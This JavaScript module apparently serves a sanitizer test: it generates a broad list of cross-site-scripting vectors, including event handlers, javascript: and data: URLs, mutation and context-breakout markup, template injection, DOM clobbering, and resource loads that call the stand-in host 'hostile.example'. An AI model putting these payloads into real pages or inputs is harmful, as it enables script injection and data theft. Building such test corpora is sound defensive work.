/** → HTML that tries to run a script or to ask another host for something, each in another way. */

/** What they call, which the page that looks for them defines. */
const RUN = 'top.hostile(1)';

/** A host that nobody has: what asks it for something is seen. */
export const HOSTILE_HOST = 'hostile.example';
const BEACON = `http://${HOSTILE_HOST}/beacon`;

/** Events that happen by themselves, and the elements that they happen on. */
const EVENTS = {
  onload: [
    'body',
    'iframe',
    'img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="',
    'svg',
    'style',
  ],
  onerror: [
    'img src=x',
    'audio src=x',
    'video src=x',
    'video><source',
    'object data=x',
    'image src=x',
    'input type=image src=x',
    'link rel=stylesheet href=x',
    'script src=x',
  ],
  onfocus: [
    'input autofocus',
    'a href=# autofocus tabindex=1',
    'select autofocus',
    'textarea autofocus',
    'button autofocus',
    'div contenteditable autofocus',
    'svg autofocus tabindex=0',
    'details open autofocus tabindex=0',
  ],
  onbegin: [
    'svg><animate attributeName=x dur=1s',
    'svg><set attributeName=x',
    'svg><animateTransform attributeName=x dur=1s',
    'svg><animateMotion dur=1s',
  ],
  onend: ['svg><animate attributeName=x dur=.1s'],
  ontoggle: ['details open', 'div popover=manual id=x'],
  onanimationstart: [
    'style>@keyframes x{}</style><b style="animation-name:x"',
    'p class=x style="animation:x 1s"',
  ],
  ontransitionrun: ['b style="transition:color 1s;color:red"'],
  onscroll: ['body style="height:9999px"', 'div style="overflow:scroll;height:9px"'],
  onpageshow: ['body'],
  onhashchange: ['body'],
  onresize: ['body'],
  onmessage: ['body'],
  onstart: ['marquee', 'marquee loop=1'],
  onfinish: ['marquee loop=1'],
  onloadstart: ['video src=x', 'audio src=x autoplay'],
  oncanplay: [
    'audio src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEARKwAAIhYAQACABAAZGF0YQAAAAA=" autoplay',
  ],
  onmouseover: ['b', 'a href=#', 'img src=x', 'svg', 'td', 'div style="position:fixed;inset:0"'],
  onclick: ['b', 'button', 'a href=#', 'summary', 'label', 'img src=x'],
  onpointerenter: ['b', 'div style="position:fixed;inset:0"'],
  onwheel: ['body', 'p'],
  oncopy: ['p contenteditable'],
  onbeforetoggle: ['div popover=auto id=y'],
  onsecuritypolicyviolation: ['body'],
  onunhandledrejection: ['body'],
};

/** Spellings of a handler that readers of HTML read as one. */
const SPELLINGS = [
  (name, code) => ` ${name}="${code}"`,
  (name, code) => ` ${name}='${code}'`,
  (name, code) => ` ${name}=${code}`,
  (name, code) => ` ${name.toUpperCase()}="${code}"`,
  (name, code) => `/${name}="${code}"`,
  (name, code) => `\n${name}\n=\n"${code}"`,
  (name, code) => ` x="<" ${name}="${entities(code)}"`,
];

/** Addresses that run a script. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#x0A;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${RUN}</script>`).toString('base64')}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `vbscript:${RUN}`,
  `blob:${BEACON}`,
];

/** Where an address stands. */
const PLACES = [
  (url) => `<a href="${url}">read on</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><button autofocus>send</button></form>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<img src="${url}" alt="a harbour">`,
  (url) => `<svg><a xlink:href="${url}"><text y="20">a lamp</text></a></svg>`,
  (url) => `<math href="${url}"><mi>x</mi></math>`,
];

/** Markup that reads otherwise the second time, or in another context. */
const CONTEXTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT/x>${RUN}</SCRIPT>`,
  `<script src="${BEACON}.js"></script>`,
  `<script type="module">${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?><img src=x onerror=${RUN}>`,
  `<select><iframe srcdoc="<script>${RUN}</script>"></iframe></select>`,
  `<table><td><img src=x onerror=${RUN}>`,
  `<p title="<img src=x onerror=${RUN}>">read</p>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `\${${RUN}}`,
  `{{constructor.constructor("${RUN}")()}}`,
  `<b data-bind="html:'<img src=x onerror=${RUN}>'">x</b>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `\`><img src=x onerror=${RUN}>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}`,
  `[read](javascript:${RUN})`,
  `![x](x" onerror="${RUN})`,
  `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>">`,
  `<object type="text/html" data="data:text/html,<script>${RUN}</script>"></object>`,
  `<isindex type=image src=x onerror=${RUN}>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<body background="${BEACON}.png">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=${BEACON}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="${BEACON}/">`,
  `<link rel="stylesheet" href="${BEACON}.css">`,
  `<link rel="preload" as="script" href="${BEACON}.js">`,
  `<link rel="prefetch" href="${BEACON}">`,
  `<link rel="dns-prefetch" href="//${HOSTILE_HOST}">`,
  `<link rel="manifest" href="${BEACON}.json">`,
  `<link rel="import" href="${BEACON}.html">`,
  `<style>@import "${BEACON}.css";</style>`,
  `<style>body{background:url("${BEACON}.png")}</style>`,
  `<style>@font-face{font-family:x;src:url("${BEACON}.woff")}*{font-family:x}</style>`,
  `<p style="background-image:url(${BEACON}.png)">wet</p>`,
  `<p style="width:expression(${RUN})">wet</p>`,
  `<p style="-moz-binding:url(${BEACON}.xml#x)">wet</p>`,
  `<img src="${BEACON}.gif" alt="a ship">`,
  `<img srcset="${BEACON}-2x.gif 2x" src="x" alt="a ship">`,
  `<img lowsrc="${BEACON}.gif" dynsrc="${BEACON}.avi">`,
  `<picture><source srcset="${BEACON}.webp"><img src="x" alt="a ship"></picture>`,
  `<video poster="${BEACON}.jpg" src="${BEACON}.mp4" autoplay></video>`,
  `<audio src="${BEACON}.mp3" autoplay></audio>`,
  `<video><track src="${BEACON}.vtt" default></video>`,
  `<iframe src="${BEACON}"></iframe>`,
  `<iframe src="//${HOSTILE_HOST}/x" sandbox="allow-scripts"></iframe>`,
  `<frameset><frame src="javascript:${RUN}"></frameset>`,
  `<object data="${BEACON}.swf"></object>`,
  `<embed src="${BEACON}.swf">`,
  `<applet code="x" codebase="${BEACON}"></applet>`,
  `<form action="${BEACON}"><input name="a" value="b"><button autofocus>send</button></form>`,
  `<input type="image" src="${BEACON}.gif">`,
  `<svg><image href="${BEACON}.png"/></svg>`,
  `<svg><use href="${BEACON}.svg#x"/></svg>`,
  `<svg><feImage href="${BEACON}.png"/></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">x</text></a></svg>`,
  `<a href="#" ping="${BEACON}">read</a>`,
  `<table background="${BEACON}.png"><td>x</td></table>`,
  `<button popovertarget="x">o</button><div id="x" popover onbeforetoggle=${RUN}>x</div>`,
  `<dialog open onclose=${RUN}><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<p id="main" name="main">clobbered</p><form name="body"><input name="parentNode"></form>`,
  `<a id="location"></a><a id="location" name="hash" href="javascript:${RUN}"></a>`,
];

/** All of them, the same every time. */
export function hostileVectors() {
  const handlers = Object.entries(EVENTS).flatMap(([event, elements], i) =>
    elements.map((element, j) => {
      const spell = SPELLINGS[(i + j) % SPELLINGS.length];
      return `<${element}${spell(event, RUN)}>harbour`;
    }),
  );
  const addresses = ADDRESSES.flatMap((url) => PLACES.map((place) => place(url)));
  return [...new Set([...handlers, ...addresses, ...CONTEXTS])];
}

function entities(code) {
  return [...code].map((character) => `&#${character.codePointAt(0)};`).join('');
}
